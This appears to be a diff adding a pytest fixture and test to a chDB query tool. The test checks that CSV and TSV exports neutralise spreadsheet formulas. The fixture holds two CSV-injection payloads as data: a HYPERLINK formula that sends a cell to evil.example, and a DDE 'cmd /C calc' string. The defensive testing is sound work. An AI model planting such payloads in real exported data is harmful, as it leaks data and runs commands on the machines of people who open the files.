@@ -132,6 +132,37 @@ def test_query_tsv_is_rows_only(numbers: ChdbDatabase) -> None:
     assert out.splitlines() == ["1\t\\N", "2\ta\\nb", "3\t\u202e"]
 
 
+HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+
+
+@pytest.fixture
+def formulas(chdb_db: ChdbDatabase) -> ChdbDatabase:
+    """Stored text a spreadsheet would run as a formula, beside negative numbers."""
+    chdb_db.command(f"CREATE TABLE {chdb_db.database}.f (n UInt64, label String, "
+                    "x Float64, k Int64) ENGINE = MergeTree ORDER BY n")
+    chdb_db.insert("f", ("n", "label", "x", "k"),
+                   [(1, HYPERLINK, -3.5, -7), (2, "-2+3+cmd|' /C calc'!A0", 2.0, 0),
+                    (3, "-3.5", -0.25, -1)])
+    return chdb_db
+
+
+def test_query_csv_and_tsv_write_formulas_as_text_and_numbers_as_numbers(
+        formulas: ChdbDatabase) -> None:
+    sql = f"SELECT label, x, k FROM {formulas.database}.f ORDER BY n"
+    out = run(formulas, "query", "--format", "csv", sql).stdout
+    assert list(csv.reader(io.StringIO(out))) == [
+        ["label", "x", "k"], ["'" + HYPERLINK, "-3.5", "-7"],
+        ["'-2+3+cmd|' /C calc'!A0", "2.0", "0"], ["-3.5", "-0.25", "-1"]]
+    assert run(formulas, "query", "--format", "tsv", sql).stdout.splitlines() == [
+        f"'{HYPERLINK}\t-3.5\t-7", "'-2+3+cmd|' /C calc'!A0\t2.0\t0", "-3.5\t-0.25\t-1"]
+    raw = run(formulas, "query", "--format", "csv", "--no-formula-guard", sql).stdout
+    assert [r[0] for r in csv.reader(io.StringIO(raw))][1:] == [
+        HYPERLINK, "-2+3+cmd|' /C calc'!A0", "-3.5"]
+    # JSON and tables are not spreadsheet input: exact values
+    doc = json.loads(run(formulas, "query", "--format", "json", sql).stdout.splitlines()[0])
+    assert doc["label"] == HYPERLINK and doc["x"] == -3.5
+
+
 def test_query_table_fits_the_terminal_unless_wide(numbers: ChdbDatabase) -> None:
     sql = f"SELECT n, repeat('x', 300) AS long FROM {numbers.database}.t ORDER BY n"
     fitted = run(numbers, "query", sql, columns=50).stdout.splitlines()
